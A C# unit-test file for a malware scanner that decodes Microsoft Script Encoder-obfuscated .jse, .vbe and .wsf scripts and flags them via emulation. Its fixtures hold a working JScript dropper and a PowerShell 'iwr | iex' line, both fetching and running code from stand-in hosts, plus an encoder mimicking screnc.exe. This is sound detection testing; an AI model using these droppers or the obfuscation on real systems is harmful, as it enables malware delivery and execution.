using System.Text;
using Crible.Model;
using Crible.Scanners.Scripts.Encoder;

namespace Crible.Tests.Scanners.Scripts;

/// <summary>Scripts hidden by the Microsoft Script Encoder (.jse, .vbe, JScript.Encode blocks): decoded, reported,
/// and the decoded program analysed and emulated like any other script.</summary>
public sealed class EncodedScriptTests
{
    private const string Dropper = """
        var shell = WScript.CreateObject("WScript.Shell");
        var path = shell.ExpandEnvironmentStrings("%TEMP%") + "\\invoice.exe";
        var http = new ActiveXObject("MSXML2.XMLHTTP");
        http.open("GET", "http://encoded.example.com/a.exe", false);
        http.send();
        if (http.status == 200 && 1 < 2 && 3 > 2) {
          var stream = new ActiveXObject("ADODB.Stream");
          stream.open(); stream.type = 1; stream.write(http.responseBody);
          stream.saveToFile(path, 2); stream.close(); shell.run("cmd.exe /c " + path, 0, false);
        }
        // mail: someone@example.com
        """;

    /// <summary>Encodes the way screnc.exe does, so the tests can hide scripts of their own.</summary>
    private static string Encode(string script)
    {
        var plain = Encoding.Latin1.GetBytes(script);
        var body = new StringBuilder();
        long position = 0;
        uint sum = 0;
        foreach (var b in plain)
        {
            sum += b;
            var escape = b switch { (byte)'\n' => "@&", (byte)'\r' => "@#", (byte)'>' => "@*", (byte)'<' => "@!", (byte)'@' => "@$", _ => null };
            body.Append(escape ?? ((char)ScriptEncoderCipher.Encode(b, position)).ToString());
            if (b < 0x80)
            {
                position++;
            }
        }

        return $"#@~^{Count((uint)body.Length)}=={body}{Count(sum)}==^#~@";
    }

    private static string Count(uint value) => Convert.ToBase64String(BitConverter.GetBytes(value))[..6];

    private static Task<Report> Analyse(string text, string name) => TestEngine.Default.AnalyseAsync(Encoding.Latin1.GetBytes(text), name);

    [Theory]
    // Published examples of screnc.exe output (the character after "JC" is DEL, 0x7F).
    [InlineData("#@~^DgAAAA==\\ko$K6,JC\u007FV^GJqAQAAA==^#~@", "MsgBox \"Hello\"")]
    [InlineData("#@~^GQAAAA==\\ko$K6,JC\u007FV^GPSW.V9J~@#@&JwcAAA==^#~@", "MsgBox \"Hello world\" \r\n")]
    public void Script_Encoder_output_decodes_to_its_source_with_matching_length_and_checksum(string encoded, string source)
    {
        var block = Assert.Single(EncodedScriptReader.Find(Encoding.Latin1.GetBytes(encoded), 10));

        Assert.Equal(source, Encoding.Latin1.GetString(block.Script));
        Assert.True(block.Intact);
        Assert.Equal(encoded.Length, block.End);
    }

    [Fact]
    public void Every_character_survives_encoding_and_decoding_including_escapes_and_bytes_above_0x7f()
    {
        var text = "Dim a\t' <b> & @home\r\n" + new string([.. Enumerable.Range(0, 256).Select(c => (char)c)]) + "\r\nWScript.Echo \"été\"";

        var block = Assert.Single(EncodedScriptReader.Find(Encoding.Latin1.GetBytes("<html>" + Encode(text) + "</html>"), 10));

        Assert.Equal(text, Encoding.Latin1.GetString(block.Script));
        Assert.True(block.Intact);
        Assert.Equal(6, block.Offset);
    }

    [Fact]
    public async Task An_encoded_jse_dropper_is_decoded_and_its_emulation_makes_it_malicious()
    {
        var report = await Analyse(Encode(Dropper), "invoice.jse");

        Assert.Equal("encoded-script", report.Nodes[0].Kind);
        var finding = Assert.Single(report.AllFindings, f => f.Finding.Id == "script-encoded").Finding;
        Assert.Equal(Severity.Suspicious, finding.Severity);
        Assert.Contains("JScript.Encode", finding.Title, StringComparison.Ordinal);
        Assert.Equal(["T1027", "T1059.007"], finding.Attack);
        var decoded = Assert.Single(report.Nodes, n => n.Name == "script-encoded@0.js");
        Assert.Equal(Relation.Decoded, decoded.Relation);
        Assert.Equal("javascript", decoded.Kind);
        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.AllFindings, f => f.Finding.Scanner == "emulation" && f.Finding.Id == "emulation-download-execute");
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://encoded.example.com/a.exe");
    }

    [Fact]
    public async Task A_vbe_file_is_decoded_into_a_vbscript_child_that_is_emulated()
    {
        const string Script = "Set shell = CreateObject(\"WScript.Shell\")\r\nIf shell Is Nothing Then WScript.Quit\r\nshell.Run \"powershell -w hidden -c iwr http://vbe.example.org/x.ps1 | iex\", 0\r\n";

        var report = await Analyse(Encode(Script), "update.vbe");

        var decoded = Assert.Single(report.Nodes, n => n.Name == "script-encoded@0.vbs");
        Assert.Equal("vbscript", decoded.Kind);
        Assert.Contains("VBScript.Encode", Assert.Single(report.AllFindings, f => f.Finding.Id == "script-encoded").Finding.Title, StringComparison.Ordinal);
        Assert.Contains(report.Iocs, i => i.Kind == IndicatorKind.Url && i.Value == "http://vbe.example.org/x.ps1");
        Assert.Equal(Verdict.Malicious, report.Verdict);
        var emulated = Assert.Single(decoded.Findings, f => f.Scanner == "emulation" && f.Id == "emulation-download-execute");
        Assert.Contains("T1059.005", emulated.Attack);
        Assert.Contains("powershell -w hidden -c iwr http://vbe.example.org/x.ps1 | iex", emulated.Evidence, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_jscript_encode_block_of_a_windows_script_file_is_decoded_and_emulated()
    {
        var wsf = $"<job id=\"a\">\r\n<script language=\"JScript.Encode\">{Encode(Dropper)}</script>\r\n</job>\r\n";

        var report = await Analyse(wsf, "invoice.wsf");

        Assert.Equal("wsf", report.Nodes[0].Kind);
        Assert.Contains(report.Nodes, n => n.Name.StartsWith("script-encoded@", StringComparison.Ordinal) && n.Name.EndsWith(".js", StringComparison.Ordinal) && n.Kind == "javascript");
        Assert.Equal(Verdict.Malicious, report.Verdict);
        Assert.Contains(report.AllFindings, f => f.Finding.Scanner == "emulation" && f.Finding.Id == "emulation-download-execute");
    }

    [Fact]
    public async Task A_block_cut_short_or_edited_is_still_decoded_and_says_its_fields_do_not_match()
    {
        var encoded = Encode(Dropper);
        var cut = encoded[..(encoded.Length / 2)];
        var edited = encoded.Replace(encoded[^14..^8], "AAAAAA", StringComparison.Ordinal);

        foreach (var damaged in new[] { cut, edited })
        {
            var report = await Analyse(damaged, "damaged.jse");

            var finding = Assert.Single(report.AllFindings, f => f.Finding.Id == "script-encoded").Finding;
            Assert.Contains("does not match", finding.Evidence, StringComparison.Ordinal);
            Assert.Contains(report.Nodes, n => n.Name == "script-encoded@0.js" && n.Size > 100);
        }
    }

    [Fact]
    public async Task Text_that_merely_mentions_the_marker_is_not_an_encoded_script()
    {
        var report = await Analyse("The Script Encoder starts its output with #@~^ and ends it with ^#~@.\n", "notes.txt");

        Assert.DoesNotContain(report.AllFindings, f => f.Finding.Id == "script-encoded");
        Assert.Single(report.Nodes);
    }

    [Fact]
    public void Mutated_blocks_never_throw_and_never_decode_more_than_they_hold()
    {
        var encoded = Encoding.Latin1.GetBytes(Encode(Dropper) + "\r\n" + Encode("WScript.Echo 1"));
        var random = new Random(1957);
        for (var i = 0; i < 3000; i++)
        {
            var mutated = (byte[])encoded.Clone();
            for (var m = random.Next(1, 12); m > 0; m--)
            {
                mutated[random.Next(mutated.Length)] = random.Next(3) == 0 ? (byte)"#@~^=A"[random.Next(6)] : (byte)random.Next(256);
            }

            var length = random.Next(0, mutated.Length + 1);
            foreach (var block in EncodedScriptReader.Find(mutated.AsSpan(0, length), 10))
            {
                Assert.InRange(block.Script.Length, 0, length);
                Assert.InRange(block.End, block.Offset, length);
            }
        }
    }
}
